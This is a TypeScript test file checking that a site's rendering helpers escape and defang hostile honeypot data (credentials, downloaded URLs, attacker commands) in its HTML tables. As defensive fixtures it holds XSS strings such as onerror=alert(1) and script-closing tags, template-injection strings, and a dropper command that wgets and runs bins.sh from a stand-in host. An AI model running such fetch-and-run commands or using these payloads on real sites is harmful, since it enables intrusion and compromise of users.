import { test } from "uvu";
import * as assert from "uvu/assert";
import { defangUrl, defangUrls, escapeHtml, jsonForScript, shorten, untrustedCode, visible } from "../../scripts/render/escape.ts";
import { tableShortcode } from "../../scripts/render/shortcodes.ts";
import { tableKindNames } from "../../scripts/render/tables.ts";
import { HOSTILE } from "../fixtures/weeks/factory.ts";
import { fixtureContext, pageThis } from "./helpers.ts";

const ctx = fixtureContext();
const table = (kind: string, ...args: unknown[]) => tableShortcode().call(pageThis(), ctx, kind, "2019-W26", ...args) as string;

test("escapeHtml: text and both attribute quotes", () => {
  assert.is(escapeHtml(`<a href="x" onclick='y'>&`), "&lt;a href=&quot;x&quot; onclick=&#39;y&#39;&gt;&amp;");
});

test("visible: control, bidi and zero-width characters become escapes; no line break survives", () => {
  assert.is(visible(HOSTILE.control), "root\\x1b[31m\\r\\nfake line");
  assert.is(visible(HOSTILE.bidi), "admin\\u202egnp.exe");
  assert.is(visible("a\u200bb\u2028c"), "a\\u200bb\\u2028c");
});

test("shorten: by code points, with an ellipsis", () => {
  assert.is(shorten("abcdef", 4), "abc…");
  assert.is(shorten("😀😀😀😀", 3), "😀😀…");
  assert.is(shorten("abc", 3), "abc");
});

test("untrustedCode: escaped, shortened, whole value in an escaped title", () => {
  const html = untrustedCode(`${HOSTILE.attr}${"x".repeat(50)}`, 10);
  assert.is(html, `<code class="untrusted" title="&quot;onerror=&quot;alert(1)${"x".repeat(50)}">&quot;onerror=…</code>`);
  assert.is(untrustedCode("root", 10), '<code class="untrusted">root</code>');
});

test("defangUrl: scheme and host dots; idempotent; URLs inside text too", () => {
  assert.is(defangUrl("http://198.51.100.7/bins.sh"), "hxxp://198[.]51[.]100[.]7/bins.sh");
  assert.is(defangUrl("HTTPS://evil.example/a.b"), "hxxps://evil[.]example/a.b");
  assert.is(defangUrl(defangUrl("ftp://a.b/c")), "fxp://a[.]b/c");
  assert.is(defangUrls("cd /tmp; wget http://a.b/x; sh x"), "cd /tmp; wget hxxp://a[.]b/x; sh x");
});

test("jsonForScript: </script>, <!-- and & cannot end or change the script element", () => {
  const json = jsonForScript({ s: `${HOSTILE.closeScript}<!--&\u2028` });
  assert.not.match(json, /[<>&\u2028]/);
  assert.equal(JSON.parse(json), { s: `${HOSTILE.closeScript}<!--&\u2028` });
});

for (const kind of tableKindNames) {
  test(`table "${kind}": one line of HTML, no raw attacker markup`, () => {
    const html = table(kind);
    assert.not.match(html, /\n/);
    assert.not.match(html, / {4}/);
    assert.not.match(html, /<script/i);
    assert.not.match(html, /"onerror=/);
    assert.not.match(html, /onmouseover="/);
    assert.not.match(html, /\u001b|\u202e/);
    // Only CVE ids link (to NVD): attacker URLs never do.
    for (const m of html.matchAll(/<a href="([^"]*)"/g)) assert.match(m[1]!, /^https:\/\/nvd\.nist\.gov\/vuln\/detail\/CVE-\d{4}-\d+$/);
  });
}

test("credentials: hostile pairs are shown escaped, template syntax as text", () => {
  const html = table("credentials");
  assert.match(html, /<code class="untrusted">&lt;script&gt;alert\(1\)&lt;\/script&gt;<\/code>/);
  assert.match(html, /<code class="untrusted">\{\{ 7\*7 \}\}<\/code>/);
  assert.match(html, /<code class="untrusted">\{% raw %\}<\/code>/);
  assert.match(html, /<code class="untrusted">&quot;onerror=&quot;alert\(1\)<\/code>/);
  assert.match(html, /title="A{300}"/, "a long password whole in the title");
});

test("downloads: defanged URLs, never links; SHA-256 shortened with the whole hash in the title", () => {
  const html = table("downloads");
  assert.match(html, /hxxp:\/\/198\[\.\]51\[\.\]100\[\.\]7\/bins\.sh/);
  assert.match(html, /hxxps:\/\/evil\[\.\]example\/x&quot;onmouseover=&quot;alert\(1\)/);
  assert.not.match(html, /href=/);
  assert.match(html, new RegExp(`title="${"a".repeat(64)}"`));
});

test("commands: URLs inside a command are defanged; control characters visible", () => {
  const html = table("commands");
  assert.match(html, /wget hxxp:\/\/198\[\.\]51\[\.\]100\[\.\]7\/bins\.sh/);
  assert.match(html, /root\\x1b\[31m\\r\\nfake line/);
  assert.match(html, /echo &quot;&lt;\/script&gt;&lt;script&gt;alert\(2\)&lt;\/script&gt;&quot;/);
});

test("a limit argument and the note on what is not listed", () => {
  const html = table("usernames", 3);
  assert.is((html.match(/<tr>/g) ?? []).length, 1 + 3);
  assert.match(html, /表にないもの: 試行回数 \d+ \(全7種類\)/);
});

test("unknown table kind and an empty week", () => {
  assert.throws(() => table("hashes"), /unknown kind "hashes" \(expected one of: credentials, usernames/);
  const empty = fixtureContext({ scale: 0 });
  const html = tableShortcode().call(pageThis("en"), empty, "credentials", "2019-W26") as string;
  assert.match(html, /table-empty.*No data for this week\./);
});

test.run();
